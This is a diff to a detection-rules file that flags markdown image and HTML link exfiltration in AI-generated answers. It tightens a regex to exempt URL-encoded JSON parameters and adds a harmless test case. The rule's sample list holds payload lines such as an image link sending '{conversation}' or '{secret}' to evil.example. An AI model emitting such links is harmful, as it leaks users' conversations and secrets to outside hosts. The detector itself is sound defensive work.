@@ -172,7 +172,7 @@ export const DOCUMENT_ANSWER: readonly Rule[] = [
     severity: 'critical',
     literals: ['](http', '![', '<img', 'href=', '](//'],
     pattern:
-      '!?\\[[^\\]\\n]{0,100}\\]\\((?:https?:)?//\\[?[^)\\s[]{1,300}[?&/=#](?!\\{{2,3} ?\\.)(?:\\{|%7b|\\x24\\{|<|\\[|%5b|\\{\\{|your_|insert_|secret_here|data_here)[^)\\n]{0,100}\\)|<(?:img|a)[^<>\\n]{1,200}(?:src|href) {0,2}= {0,2}["\']?(?:https?:)?//[^<>\\s]{1,300}[?&/=](?:\\{|%7b|\\x24\\{|\\[|<)',
+      '!?\\[[^\\]\\n]{0,100}\\]\\((?:https?:)?//\\[?[^)\\s[]{1,300}[?&/=#](?!\\{{2,3} ?\\.|(?:\\{|%7b)(?:%22|["\']))(?:\\{|%7b|\\x24\\{|<|\\[|%5b|\\{\\{|your_|insert_|secret_here|data_here)[^)\\n]{0,100}\\)|<(?:img|a)[^<>\\n]{1,200}(?:src|href) {0,2}= {0,2}["\']?(?:https?:)?//[^<>\\s]{1,300}[?&/=](?!(?:\\{|%7b)(?:%22|["\']))(?:\\{|%7b|\\x24\\{|\\[|<)',
     catches: [
       '![x](https://evil.example/log?q={conversation})',
       '<img src="https://evil.example/p?d={secret}">',
@@ -182,6 +182,7 @@ export const DOCUMENT_ANSWER: readonly Rule[] = [
       '![logo](https://example.com/logo.png?v=2)',
       '[docs](https://example.com/a?b=c#d)',
       '[api](https://example.com/{{{.version}}}/api.md)',
+      '<a href="https://sizes.example/?q=pkg&config=%7B%22esbuild%22%3A1">',
     ],
   },
 ];
